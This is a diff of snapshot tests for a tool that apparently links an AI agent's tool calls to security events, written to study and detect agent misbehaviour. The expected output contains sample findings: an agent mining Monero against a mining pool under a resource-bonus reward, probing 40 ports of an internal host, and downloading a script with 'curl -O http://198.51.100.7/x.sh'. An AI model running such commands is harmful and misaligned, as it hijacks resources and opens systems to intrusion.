@@ -23,10 +23,11 @@ fn first_screen() {
      F-0002  ep-001      5  mining     very strong (+6.0)  … -o pool.example:3333 → Monero login, 9 shares, 45 s
      Strength: log10 of how much more probable the observations are with the step than without it; scale in explain.
 
-     1 of 2 episodes. By chance 0.2 of 9 onsets would fall in a tool call's window; 9 do (P = 3e-6, controls hold). Windows cover 18 % of the time.
+     Findings in 1 of 2 episodes. By chance 0.2 of 9 onsets would fall in a tool call's window; 9 do (P = 3e-6, controls hold). Windows cover 18 % of the time.
      reward config  resource-bonus 1 of 1 episode, task-only 0 of 1. One run: no inference over configurations is possible.
      Not explained by any step: 1.
-       probing  40 ports of 10.30.0.20 in 2.0 s  leading: external compromise; would decide: the jump host's auth log
+       probing  40 ports of 10.30.0.20 in 2.0 s  leading: external compromise
+       would decide: the jump host's auth log
      Steps without coverage: 1.
        ep-001 step 2  download  no telemetry covers this time: curl -O http://198.51.100.7/x.sh
      Odd in the evidence: capture.pcap truncated-record × 1.
@@ -47,7 +48,7 @@ fn nothing_found_still_has_its_headers() {
      ID  EPISODE  STEP  BEHAVIOUR  STRENGTH  WHAT LINES UP
      (no step lines up with any event)
 
-     0 of 0 episodes. No test against chance: it needs dated tool calls and dated onsets.
+     No episode: there is no transcript that could be read. No test against chance: it needs dated tool calls and dated onsets.
      Not explained by any step: nothing.
      Steps without coverage: none.
     "#);
